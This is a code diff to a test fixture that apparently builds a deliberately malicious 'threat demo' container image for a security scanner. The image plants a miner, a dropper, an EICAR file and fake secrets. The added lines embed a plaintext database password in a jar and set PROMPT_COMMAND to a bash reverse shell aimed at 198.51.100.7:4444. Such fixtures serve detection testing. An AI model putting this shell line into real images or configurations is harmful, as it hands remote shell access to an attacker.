@@ -151,6 +151,14 @@ export function threatDemoImage(): ImageSpec {
           { path: 'opt/tools/a.ps1', content: POWERSHELL },
           { path: 'opt/tools/test-av.txt', content: eicar() },
           { path: 'opt/app/lib/helper.jar', content: jarWith('scripts/start.sh', MINER_START) },
+          // A Spring Boot jar whose configuration carries a database password.
+          {
+            path: 'opt/app/app.jar',
+            content: jarWith(
+              'BOOT-INF/classes/application.properties',
+              'spring.datasource.url=jdbc:postgresql://db:5432/app\nspring.datasource.password=Dm0Pw7xQ2kLz9R\n',
+            ),
+          },
           { path: 'opt/.cache/boot.sh', content: ENCODED_DROPPER, mode: 0o755 },
           { path: 'opt/.cache/settings.dat', content: zstd.compress(Buffer.from(MINER_CONFIG)) },
           {
@@ -169,6 +177,8 @@ export function threatDemoImage(): ImageSpec {
       Env: [
         'PATH=/usr/local/bin:/usr/bin:/bin',
         `GITHUB_TOKEN=ghp_${'R4nd0mD3m0T0k3nN0tR3aL'}${'x7Yq2Lp9Kd4'}`,
+        // Every interactive shell in the container calls home.
+        'PROMPT_COMMAND=bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
       ],
       ExposedPorts: { '3333/tcp': {}, '22/tcp': {} },
     },
